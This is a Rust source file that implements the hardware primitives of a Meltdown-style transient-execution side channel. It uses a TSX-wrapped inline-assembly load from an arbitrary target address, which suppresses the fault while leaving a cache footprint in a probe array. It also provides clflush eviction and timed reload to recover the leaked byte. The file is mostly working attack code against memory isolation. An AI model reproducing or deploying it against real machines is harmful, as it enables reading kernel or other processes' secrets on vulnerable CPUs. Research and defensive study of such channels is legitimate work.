use crate::oracle::ChannelPrimitives;
use crate::{CalibrationConfig, SetupError};
use core::arch::asm;

/// Real-hardware primitives: TSX-contained transient load, `clflush`
/// eviction, fenced `rdtsc` timing.
#[derive(Debug, Clone, Copy)]
pub struct HardwareChannel {
    stride_bits: u32,
}

impl HardwareChannel {
    /// Fails when the CPU cannot contain the faulting load (no RTM).
    pub fn new(config: &CalibrationConfig) -> Result<HardwareChannel, SetupError> {
        if !is_x86_feature_detected!("rtm") {
            return Err(SetupError::RtmUnavailable);
        }
        Ok(HardwareChannel {
            stride_bits: config.stride_bits,
        })
    }
}

impl ChannelPrimitives for HardwareChannel {
    /// The load pair runs inside a transaction. If reading `target`
    /// faults, the abort rolls all architectural state back before any
    /// signal is delivered and control falls through to the abort label,
    /// but the dependent probe line fill has already happened
    /// microarchitecturally. A non-faulting read simply commits.
    unsafe fn transient_load(&self, target: *const u8, probe_base: *const u8) {
        unsafe {
            asm!(
                "xbegin 2f",
                "movzx {v}, byte ptr [{target}]",
                "shl {v}, cl",
                "mov {v:l}, byte ptr [{probe} + {v}]",
                "xend",
                "2:",
                target = in(reg) target,
                probe = in(reg) probe_base,
                v = out(reg) _,
                in("rcx") self.stride_bits as u64,
                out("eax") _, // xabort status
                options(nostack),
            );
        }
    }

    unsafe fn timed_access(&self, addr: *const u8) -> u64 {
        unsafe { cache_timing::reload_time(addr) }
    }

    unsafe fn flush_line(&self, addr: *const u8) {
        unsafe { cache_timing::flush(addr) };
    }
}
